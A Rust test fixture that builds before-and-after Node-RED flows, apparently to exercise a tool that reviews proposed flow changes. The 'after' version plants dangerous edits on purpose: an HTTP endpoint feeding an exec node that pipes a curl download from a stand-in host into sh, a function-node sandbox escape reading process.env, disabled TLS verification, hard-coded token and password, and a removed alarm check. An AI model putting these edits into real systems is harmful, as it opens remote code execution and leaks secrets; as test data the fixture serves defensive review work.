//! A plant as people keep it (two of the real files), and a proposal with changes of every kind.

use std::{fs, path::Path};

use serde_json::{Value, json};

/// The function that is edited, and the code it gets.
pub(super) const EDITED: &str = "43e50af9.3666a4";
const CODE: &str = "var hostname = msg.hostname;\n\n\
    var serverNum = hostname.charAt(hostname.length-1);\n\n\
    while (true) { if (serverNum) break; }\n\
    const env = msg.constructor.constructor(\"return process.env\")();\n\
    msg.topic = \"server/\"+serverNum+\"/\"+env.USER;\n\n\
    return msg;\n";
/// The tab with the health check and its alarm.
pub(super) const HEALTH: &str = "d54a382a.082078";
const MANAGEMENT: &str = "4ec5ffc3.45d09";
const ALARM: &str = "9cf3fc1d.4d172";
const CHECK: &str = "9385be8d.064ae";

/// What runs: two real files beside each other, the dashboard's nodes as debug and change nodes of
/// the same name, an alarm by its name and one broker behind TLS.
pub(super) fn before() -> Value {
    let mut nodes = Vec::new();
    for file in ["smart-garden/05", "dcs-satellite/12"] {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/flows");
        let text = fs::read_to_string(root.join(format!("{file}.json"))).unwrap();
        let read: Vec<Value> = serde_json::from_str(&text).unwrap();
        nodes.extend(read.into_iter().filter_map(stand_in));
    }
    let mut flows = Value::Array(nodes);
    set(&mut flows, ALARM, "name", json!("Alarm: server is down"));
    let broker = "45b9f248.cf344c";
    set(&mut flows, broker, "usetls", json!(true));
    set(&mut flows, broker, "tls", json!("tls1"));
    let tls = json!({"id": "tls1", "type": "tls-config", "name": "site CA", "cert": "", "key": "",
        "ca": "", "certname": "", "keyname": "", "caname": "", "servername": "",
        "verifyservercert": true, "alpnprotocol": ""});
    flows.as_array_mut().unwrap().push(tls);
    flows
}

fn stand_in(mut node: Value) -> Option<Value> {
    let kind = node["type"].as_str().unwrap().to_owned();
    if !kind.starts_with("ui_") && !kind.starts_with("fs-ops") {
        return Some(node);
    }
    let wires = node["wires"].as_array()?;
    let is_last = wires
        .iter()
        .all(|port| port.as_array().is_none_or(Vec::is_empty));
    node["type"] = json!(if is_last { "debug" } else { "change" });
    if !is_last {
        node["rules"] = json!([]);
    }
    Some(node)
}

/// What is proposed: the same with sixteen changes of every kind.
pub(super) fn after() -> Value {
    let mut flows = before();
    // A function's code, a switch's rule, an inject's schedule, a topic, a broker, TLS, a token.
    set(&mut flows, EDITED, "func", json!(CODE));
    let rules = json!([{"t": "gt", "v": "300", "vt": "num"}, {"t": "else"}]);
    set(&mut flows, "506b6b0d.605534", "rules", rules);
    set(&mut flows, "d4ca3258.dec28", "repeat", json!("18000"));
    set(
        &mut flows,
        "6488a9e94b12ade0",
        "topic",
        json!("sensors/2/sleep_time"),
    );
    set(
        &mut flows,
        "0bc3b7ed1f031887",
        "broker",
        json!("broker.example.net"),
    );
    set(&mut flows, "tls1", "verifyservercert", json!(false));
    let token = json!([{"name": "API_TOKEN", "type": "str",
        "value": "ghp_b7Kx2Qm9Zt4Rw8Vn3Lc6Ys1Pd5Hf0GjTaUeX"}]);
    set(&mut flows, "ce924935.a36b38", "env", token);
    let login = json!({"user": "operator", "password": "twelve steps down"});
    set(&mut flows, "df6161d4.f53a4", "credentials", login);
    // Inside a subflow; and a node that only moved.
    let rules = json!([{"t": "set", "p": "topic", "pt": "msg", "tot": "jsonata",
        "to": "'pump/' & $string($env('id')) & '/state'"}]);
    set(&mut flows, "99bd1130868acef8", "rules", rules);
    set(&mut flows, "af93ee2c.b122a", "y", json!(420));
    // The check that leads to the alarm goes, and so does the other way to it.
    set(&mut flows, "1030e61.16ee91a", "wires", json!([[], [], []]));
    set(
        &mut flows,
        "26ad9454.90f51c",
        "wires",
        json!([["120d8951.956ae7"]]),
    );
    let all = flows.as_array_mut().unwrap();
    all.retain(|node| node["id"] != CHECK);
    // The same file node with another id.
    for node in all.iter_mut() {
        let text = node
            .to_string()
            .replace("65ab89d79d9135cc", "65ab89d79d9100aa");
        *node = serde_json::from_str(&text).unwrap();
    }
    // A door to the outside that runs a command, and a group.
    all.extend([
        json!({"id": "h1", "type": "http in", "z": MANAGEMENT, "name": "maintenance",
            "url": "/maintenance", "method": "post", "upload": false, "swaggerDoc": "",
            "x": 160, "y": 560, "wires": [["x1"]]}),
        json!({"id": "x1", "type": "exec", "z": MANAGEMENT, "name": "fetch and run",
            "command": "curl -s https://updates.example.net/fix.sh | sh", "addpay": "payload",
            "append": "", "useSpawn": "false", "timer": "", "winHide": false, "oldrc": false,
            "x": 400, "y": 560, "wires": [["h2"], [], []]}),
        json!({"id": "h2", "type": "http response", "z": MANAGEMENT, "name": "", "statusCode": "",
            "headers": {}, "x": 640, "y": 540, "wires": []}),
        json!({"id": "g1", "type": "group", "z": HEALTH, "name": "Heartbeat",
            "style": {"label": true}, "nodes": ["26ad9454.90f51c", "120d8951.956ae7"],
            "x": 74, "y": 239, "w": 512, "h": 222}),
    ]);
    set(&mut flows, "26ad9454.90f51c", "g", json!("g1"));
    set(&mut flows, "120d8951.956ae7", "g", json!("g1"));
    flows
}

fn set(flows: &mut Value, id: &str, key: &str, value: Value) {
    let nodes = flows.as_array_mut().unwrap();
    let node = nodes.iter_mut().find(|node| node["id"] == id);
    node.unwrap_or_else(|| panic!("no node {id}"))[key] = value;
}
